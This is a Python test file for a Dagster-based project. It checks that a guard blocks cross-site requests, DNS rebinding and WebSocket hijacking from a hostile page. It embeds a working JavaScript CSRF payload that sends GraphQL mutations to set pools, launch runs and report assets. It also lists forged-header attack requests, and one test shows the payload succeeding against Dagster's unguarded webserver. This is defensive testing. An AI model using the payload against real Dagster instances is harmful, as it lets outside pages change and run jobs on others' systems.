"""A page of another site in a real browser can neither read nor change anything of the running stack.

Through Dagster's own webserver, which has no guard, the same page changes things. This proves that the attack works.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.request import Request, urlopen

import pytest
import yaml

from titan10_dagster import settings as titan10_settings
from titan10_dagster.local.graphql import run_query
from titan10_dagster.local.instance import child_environment, prepare
from titan10_dagster.local.ports import free_port
from titan10_dagster.local.stack import Stack
from titan10_dagster_tests.databases import passable_folder
from titan10_dagster_tests.webservers import running_webserver

playwright = pytest.importorskip("playwright.sync_api", reason="no playwright, so this was NOT tested")

PROJECT = Path(__file__).parents[2]
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
DEFINITIONS = """
import dagster as dg

@dg.asset
def waiting() -> None: ...

defs = dg.Definitions(assets=[waiting], jobs=[dg.define_asset_job("wait")], executor=dg.in_process_executor)
"""
SET_POOL = 'mutation { setConcurrencyLimit(concurrencyKey: "%s", limit: 9) }'
LAUNCH = """mutation { launchRun(executionParams: {selector: {
  repositoryLocationName: "titan10_dagster", repositoryName: "__repository__", jobName: "wait"}}) { __typename } }"""
STATE = """{
  instance { concurrencyLimits { concurrencyKey } }
  runsOrError { ... on Runs { results { runId } } }
  assetsOrError { ... on AssetConnection { nodes { key { path } assetMaterializations(limit: 1) { runId } } } }
}"""
# All known ways in which a page can attack. `UI` and the mutations are filled in. Each attempt reports its result.
ATTACK = """<!doctype html><title>attack</title><body><script>
const UI = "%(ui)s", SET_POOL = %(set_pool)s, LAUNCH = %(launch)s;
const body = (query) => JSON.stringify({query: query});
const get = (query) => `${UI}/graphql?query=${encodeURIComponent(query)}`;
const settled = (promise) => promise.then((answer) => `${answer.type} ${answer.status}`, (error) => `failed: ${error}`);

function image(url) {
  return new Promise((resolve) => {
    const element = new Image();
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve("failed");
    element.src = url;
  });
}

function frame(url, fields) {
  return new Promise((resolve) => {
    const name = "frame" + Math.random();
    const element = document.createElement("iframe");
    element.name = name;
    document.body.append(element);
    element.onload = () => resolve("loaded");
    if (fields === undefined) { element.src = url; return; }
    const form = document.createElement("form");
    form.action = url; form.method = "POST"; form.enctype = "text/plain"; form.target = name;
    for (const [field, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.name = field; input.value = value; form.append(input);
    }
    document.body.append(form);
    form.submit();
  });
}

function socket(query) {
  return new Promise((resolve) => {
    const ws = new WebSocket(UI.replace("http", "ws") + "/graphql", "graphql-ws");
    ws.onopen = () => {
      ws.send(JSON.stringify({type: "connection_init"}));
      ws.send(JSON.stringify({id: "1", type: "start", payload: {query: query}}));
      setTimeout(() => resolve("opened"), 1000);
    };
    ws.onclose = (event) => resolve("closed");
  });
}

async function attack() {
  const text = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}};
  return {
    read: await settled(fetch(UI + "/server_info")),
    get_fetch: await settled(fetch(get(SET_POOL), {mode: "no-cors"})),
    get_fetch_run: await settled(fetch(get(LAUNCH), {mode: "no-cors"})),
    get_image: await image(get(SET_POOL)),
    get_frame: await frame(get(LAUNCH)),
    post_text: await settled(fetch(UI + "/graphql", {...text, body: body(SET_POOL)})),
    post_text_run: await settled(fetch(UI + "/graphql", {...text, body: body(LAUNCH)})),
    post_json: await settled(fetch(UI + "/graphql", {
      method: "POST", headers: {"Content-Type": "application/json"}, body: body(SET_POOL)})),
    post_form: await frame(UI + "/graphql", {[body(SET_POOL).slice(0, -1) + ', "x": "']: '"}'}),
    report: await settled(fetch(UI + "/report_asset_materialization/evil", {method: "POST", mode: "no-cors"})),
    report_form: await frame(UI + "/report_asset_materialization/waiting", {a: "b"}),
    websocket: await socket(SET_POOL),
    frame: await frame(UI + "/"),
  };
}
</script>"""


@dataclass(frozen=True)
class Running:
    """A running stack: its project folder, the address of its UI, and the environment of its processes."""

    home: Path
    ui: str
    environment: dict[str, str]


@pytest.fixture(scope="module")
def running() -> Iterator[Running]:
    """A running stack with an asset and a job."""
    with passable_folder() as home:
        shutil.copy(PROJECT / "dagster.yaml", home)
        (home / "guarded_definitions.py").write_text(DEFINITIONS)
        (home / "titan10.toml").write_text(
            '[server]\nport = 0\npostgres_port = 0\n[exchanges.binance]\nsymbols = ["BTC/USDT"]\nstart = 2026-01-01\n'
        )
        settings = titan10_settings.load(home)
        stack = Stack(settings, home, print, module="guarded_definitions")
        try:
            ui = stack.start()
            yield Running(home, ui, child_environment(prepare(settings, home, stack.database_url), os.environ))
        finally:
            stack.stop()


@pytest.fixture(scope="module")
def ui(running: Running) -> str:
    return running.ui


@pytest.fixture(scope="module")
def unguarded(running: Running) -> Iterator[str]:
    """The address of Dagster's own webserver on the same instance and code location."""
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    workspace = running.home / ".titan10/dagster/workspace.yaml"
    command = [sys.executable, "-m", "dagster_webserver", "--host", "127.0.0.1", "--port", str(port)]
    with running_webserver([*command, "--workspace", str(workspace)], url, running.home, running.environment):
        yield url


@pytest.fixture(scope="module")
def composed(running: Running) -> Iterator[str]:
    """The address of the webserver of deploy/compose.yaml. It listens on this machine only, on a free port."""
    command = yaml.safe_load((PROJECT / "deploy/compose.yaml").read_text())["services"]["webserver"]["command"]
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    changes = {
        "python": sys.executable,
        "0.0.0.0": "127.0.0.1",
        "3000": str(port),
        "dagster/workspace.yaml": str(running.home / ".titan10/dagster/workspace.yaml"),
    }
    assert set(changes) <= set(command)
    changed = [changes.get(word, word) for word in command]
    with running_webserver(changed, url, running.home, running.environment):
        yield url


@pytest.fixture(scope="module")
def other_site() -> Iterator[int]:
    """The port of a server with the attacking page. Its path is the address that it attacks."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            attacked = self.path.removeprefix("/")
            texts = {"ui": attacked, "set_pool": json.dumps(SET_POOL % "evil"), "launch": json.dumps(LAUNCH)}
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write((ATTACK % texts).encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if CHROMIUM is None:
        pytest.skip("no Chromium, so this was NOT tested")
    names = "MAP *.test 127.0.0.1"
    arguments = ["--no-sandbox", "--disable-background-networking", f"--host-resolver-rules={names}"]
    with playwright.sync_playwright() as driver:
        opened = driver.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield opened
        opened.close()


def state(ui: str) -> dict[str, Any]:
    read = run_query(ui, STATE)
    nodes = read["assetsOrError"].get("nodes", [])
    return {
        "pools": sorted(limit["concurrencyKey"] for limit in read["instance"]["concurrencyLimits"]),
        "runs": len(read["runsOrError"]["results"]),
        "materialized": [node["key"]["path"] for node in nodes if node["assetMaterializations"]],
    }


@pytest.mark.parametrize("name", ["evil.test", "127.0.0.1", "localhost"])
def test_a_page_of_another_site_changes_nothing(ui: str, other_site: int, browser: Any, name: str) -> None:
    before = state(ui)
    outcome = attack(browser, f"http://{name}:{other_site}/{ui}")
    assert state(ui) == before
    assert outcome["read"].startswith("failed")
    assert outcome["websocket"] == "closed"


def attack(browser: Any, address: str) -> dict[str, str]:
    """Open the attacking page and return how each of its attempts ended."""
    page = browser.new_page()
    page.goto(address)
    outcome: dict[str, str] = page.evaluate("attack()")
    page.wait_for_timeout(1000)
    frames = [frame.url for frame in page.frames]
    page.close()
    assert len(outcome) == 13, frames
    return outcome


def test_a_name_that_is_rebound_to_this_machine_reads_nothing(ui: str, browser: Any) -> None:
    page = browser.new_page()
    answer = page.goto(ui.replace("127.0.0.1", "rebound.test"))
    assert answer is not None
    assert answer.status == 403
    outcome = page.evaluate(
        "query => fetch('/graphql', {method: 'POST', headers: {'Content-Type': 'application/json'},"
        " body: JSON.stringify({query})}).then(answer => answer.status)",
        SET_POOL % "evil",
    )
    page.close()
    assert outcome == 403
    assert "evil" not in state(ui)["pools"]


def test_the_uis_own_page_still_works(ui: str, browser: Any) -> None:
    page = browser.new_page()
    page.goto(ui)
    page.wait_for_load_state()
    status = page.evaluate(
        "query => fetch('/graphql', {method: 'POST', headers: {'Content-Type': 'application/json'},"
        " body: JSON.stringify({query})}).then(answer => answer.status)",
        SET_POOL % "own",
    )
    page.close()
    assert status == 200
    assert "own" in state(ui)["pools"]


ATTACKS: list[tuple[str, dict[str, str]]] = [
    ("/graphql", {"Content-Type": "text/plain", "Origin": "http://evil.test"}),
    ("/graphql", {"Content-Type": "text/plain"}),
    ("/graphql", {"Content-Type": "application/json", "Host": "evil.test"}),
    ("/report_asset_materialization/evil", {"Origin": "http://evil.test"}),
    ("/report_asset_materialization/evil", {}),
]


@pytest.mark.parametrize(("path", "headers"), ATTACKS)
def test_requests_as_attackers_send_them_are_refused(ui: str, path: str, headers: dict[str, str]) -> None:
    before = state(ui)
    with pytest.raises(HTTPError) as refused:
        urlopen(Request(ui + path, b'{"query": "mutation { x }"}', headers), timeout=30)
    assert refused.value.code == 403
    refused.value.close()
    assert state(ui) == before


@pytest.mark.parametrize(("path", "headers"), ATTACKS)
def test_the_webserver_of_the_containers_refuses_them_too(composed: str, path: str, headers: dict[str, str]) -> None:
    test_requests_as_attackers_send_them_are_refused(composed, path, headers)


def test_without_the_guard_the_same_page_sets_pools_launches_runs_and_reports(
    unguarded: str, other_site: int, browser: Any
) -> None:
    before = state(unguarded)
    attack(browser, f"http://evil.test:{other_site}/{unguarded}")
    after = state(unguarded)
    assert "evil" not in before["pools"]
    assert "evil" in after["pools"]
    assert after["runs"] > before["runs"]
    assert after["materialized"] != before["materialized"]
